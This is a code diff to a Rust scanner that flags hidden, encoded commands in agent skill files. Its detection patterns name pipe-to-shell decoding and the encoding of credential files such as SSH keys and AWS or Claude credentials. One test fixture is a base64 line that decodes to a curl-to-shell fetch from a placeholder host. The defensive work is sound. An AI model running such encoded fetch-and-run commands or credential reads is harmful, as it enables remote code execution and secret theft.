@@ -5,6 +5,7 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
+use super::prose;
 use crate::rule::prelude::*;
 use crate::skill;
 use crate::view::{self, Layer, Origin};
@@ -45,7 +46,7 @@ pub const RULES: &[Rule] = &[
         check: Check::Text(Text {
             zones: Zones::COMMANDS.and(Zones::PROSE),
             prompts: true,
-            hints: &["base64", "xxd", "powershell", "pwsh"],
+            hints: &["base64", "xxd", "powershell", "pwsh", "openssl"],
             pattern: r#"(?:(?:echo|printf)\s[^\n|;&]*\|\s*)?(?:\bg?base64\s+(?:-[a-z]*d[a-z]*\b|--decode\b)|\bopenssl\s+(?:enc\s+-)?base64\s[^\n|;]{0,40}-d\b|\bopenssl\s+enc\s[^\n|;]{0,60}-d\b|\bxxd\s+-r\b)[^\n;&|]{0,200}(?:\|\s*(?:gunzip|gzip\s+-d\S*|zcat|tr|rev|base64|xxd|sed|tee|cat|openssl)\b[^\n|;&]{0,120}){0,3}\|\s*(?:sudo\s+(?:-\S+\s+)?)?(?:/\S*/)?(?:(?:ba|z|da|k|fi)?sh|python[\d.]*|perl|ruby|node|php|osascript)\b(?:\s+-\S*)*|(?:\beval|\bsource|\bexec|(?:ba|z|da|k)?sh\s+-\w*c|(?:ba|z)?sh\s*<|python[\d.]*\s+-c|node\s+-e|perl\s+-e|^\s*\.)\s*["']?(?:[$<]\(|`)[^\n`]*\b(?:g?base64\s+(?:-[a-z]*d[a-z]*\b|--decode\b)|xxd\s+-r\b|openssl\s+(?:enc\s+-)?base64\s[^\n|;)]{0,40}-d\b)[^\n"'`]{0,40}?[)`]|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n|;]{0,120}\s-e(?:nc?|nco\w*)?\s+["']?[A-Za-z0-9+/=]{16,}["']?"#,
             window: Window::Line,
             hit: pipe_exec,
@@ -74,6 +75,9 @@ pub const RULES: &[Rule] = &[
             skill!("![x](data:image/svg+xml;base64,Y3VybCAtcyBodHRwczovL2guZXhhbXBsZS94IHwgc2g=)\n"),
             skill!(
                 "```python\nb64decode('SGVsbG8sIFdvcmxkISBIZWxsbyBhZ2Fpbi4=')\nurl = 'https://' + 'h.example'\n```\n"
+            ),
+            skill!(
+                "```text\n-----BEGIN CERTIFICATE-----\nMIIBhTCCASugAwIBAgIQIRi6zePL6mKjOipn+dNuaTAKBggqhkjOPQQDAjASMRAw\nDgYDVQQKEwdBY21lIENvMB4XDTE3MTAyMDE5NDMwNloXDTE4MTAyMDE5NDMwNlow\n-----END CERTIFICATE-----\n```\n"
             ),
         ],
         check: Check::Unit(decodes_to_command),
@@ -116,7 +120,7 @@ pub const RULES: &[Rule] = &[
         check: Check::Text(Text {
             zones: Zones::CODE,
             prompts: false,
-            hints: &["base64", "b64encode", "btoa", "xxd", "hexlify"],
+            hints: &["base64", "b64encode", "btoa", "xxd", "hexlify", "buffer.from"],
             pattern: r#"\$\{?\w*(?:KEY|TOKEN|SECRET|PASSW(?:OR)?D|CREDENTIALS?)\w*\}?["']?\s*\|\s*(?:base64|xxd|openssl\s+(?:enc\s+-)?base64)\b|\bbase64\s+(?:-\S+\s+)*["']?(?:~|\$\{?HOME\}?)?/\S*(?:\.ssh/id_\w+|\.aws/credentials|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.kube/config|\.openclaw/openclaw\.json|\.claude/\.credentials\.json)|\bcat\s+\S*(?:\.ssh/id_\w+|\.aws/credentials|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.kube/config)["']?\s*\|\s*(?:base64|xxd)\b|\b(?:b64encode|hexlify|btoa)\(\s*(?:str\()?(?:os\.environ|os\.getenv|environ|getenv|process\.env)[.\[(]\s*(?:get\()?["']?\w*(?:KEY|TOKEN|SECRET|PASSW(?:OR)?D|CREDENTIALS?)\w*["']?[\])]?|\bBuffer\.from\(\s*process\.env\.\w*(?:KEY|TOKEN|SECRET|PASSW(?:OR)?D)\w*\s*\)\.toString\(\s*["'](?:base64|hex)["']\)"#,
             window: Window::Line,
             hit: secret_encode,
@@ -127,13 +131,6 @@ pub const RULES: &[Rule] = &[
 
 /// Characters of a decoded text that a message shows.
 const SHOWN: usize = 100;
-
-/// The start of a decoded text on one line.
-fn shown(text: &str) -> String {
-    let words = text.split_whitespace().collect::<Vec<_>>().join(" ");
-    let cut = if words.chars().nth(SHOWN).is_some() { "…" } else { "" };
-    format!("\"{}{cut}\"", words.chars().take(SHOWN).collect::<String>())
-}
 
 fn pipe_exec(hit: &Hit<'_>, report: &mut Report) {
     static PAYLOAD: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{16,}={0,2}").ok());
@@ -146,7 +143,7 @@ fn pipe_exec(hit: &Hit<'_>, report: &mut Report) {
     // In a string of a program the words may be data: what they decode to tells.
     let data = hit.zone.kind == ZoneKind::Str
         && !matches!(hit.zone.language, Language::Shell | Language::PowerShell | Language::Batch);
-    if data && payload && !view::decoded(hit.matched()).iter().any(|layer| view::suspicious(&layer.text).is_some()) {
+    if data && payload && !hides(hit.matched()) {
         return;
     }
     // `python3 -m json.tool` and `node -p` of a file read data.
@@ -155,6 +152,12 @@ fn pipe_exec(hit: &Hit<'_>, report: &mut Report) {
     }
     let severity = if payload { Severity::Critical } else { hit.unless_warned_of(Severity::Critical) };
     report.at(hit.place(), "decodes a command and runs it without anybody having seen it").severity(severity);
+}
+
+/// Does a text decode to something that is hidden for a reason?
+fn hides(text: &str) -> bool {
+    let found = view::decoded(text, &view::unusual(text));
+    found.layers.iter().any(|layer| view::suspicious(&layer.text).is_some())
 }
 
 /// The files whose encodings say something about the skill.
@@ -179,11 +182,15 @@ fn decodes_to_command(skill: &Skill, report: &mut Report) {
             let place = file.place(layer.outer.clone());
             if let Some(what) = view::suspicious(&layer.text) {
                 told = Some(layer.outer.clone());
-                report.at(place, format!("{} hides {what}: {}", layer.steps(), shown(&layer.text)));
+                report.at(place, format!("{} hides {what}: {}", layer.steps(), prose::quoted(&layer.text, SHOWN)));
             } else if layer.deeper {
                 told = Some(layer.outer.clone());
                 report.at(place, format!("{} hides yet another encoding", layer.steps()));
             }
+        }
+        if let Some(at) = file.unread() {
+            let message = "more is encoded or cannot be seen from here on than is decoded, and nobody has read it";
+            report.at(file.place(at..at), message).severity(Severity::Warn);
         }
     }
 }
@@ -193,7 +200,7 @@ fn hidden_address(skill: &Skill, report: &mut Report) {
         for layer in file.decoded().iter().filter(|layer| is_address(layer)) {
             let place = file.place(layer.outer.clone());
             if skill.zone(place.span).is_some_and(|zone| zone.is_code() || zone.kind == ZoneKind::DataString) {
-                report.at(place, format!("{} hides the address {}", layer.steps(), layer.text.trim()));
+                report.at(place, format!("{} hides the address {}", layer.steps(), prose::quoted(&layer.text, SHOWN)));
             }
         }
     }
